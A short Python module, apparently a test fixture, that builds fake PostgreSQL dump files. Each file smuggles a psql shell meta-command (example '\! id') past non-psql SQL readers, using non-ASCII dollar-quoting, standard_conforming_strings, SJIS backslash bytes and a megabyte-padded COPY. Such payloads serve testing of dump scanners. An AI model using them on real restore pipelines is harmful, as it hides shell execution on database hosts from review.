"""Scripts whose author wants psql to run something: each deceives a reader of SQL that is not psql itself."""

from __future__ import annotations

HEAD = b"--\n-- PostgreSQL database dump\n--\n\n"
END = b"\n--\n-- PostgreSQL database dump complete\n--\n\n"


def shells(command: bytes) -> dict[str, bytes]:
    """By what each of them plays with; `command` is a psql command such as `\\! id`."""
    pad = b" " * (1 << 20)
    return {
        "a letter beyond ASCII before a dollar": b"SELECT 1 AS \xc3\xa9$$;\n" + command + b"\n-- $$\n;\n",
        "standard_conforming_strings": b"SET standard_conforming_strings = off;\nSELECT '\\'';\n"
        + command
        + b"\n--';\n",
        "an encoding whose characters end in a backslash": b"SET client_encoding = 'SJIS';\nSELECT E'\x81\\';\n"
        + command
        + b"\n--';\n",
        "a COPY that is too long to be looked at": b"SET search_path = public;\nCREATE TABLE stdin (a int);\nCOPY (SELECT 1"
        + pad
        + b"FROM stdin--\n) TO STDOUT;\n"
        + command
        + b"\n\\.\n",
    }


def dump(body: bytes) -> bytes:
    return HEAD + body + END
